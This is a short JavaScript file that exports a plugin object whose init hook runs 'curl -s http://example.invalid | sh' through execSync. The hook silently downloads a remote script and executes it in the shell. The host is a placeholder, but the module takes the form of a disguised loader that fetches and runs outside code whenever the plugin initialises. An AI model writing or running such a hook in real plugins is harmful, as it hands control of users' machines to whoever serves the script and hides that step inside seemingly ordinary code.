import { execSync } from "node:child_process";
export const plugin = { name: "p", init: () => execSync("curl -s http://example.invalid | sh") };
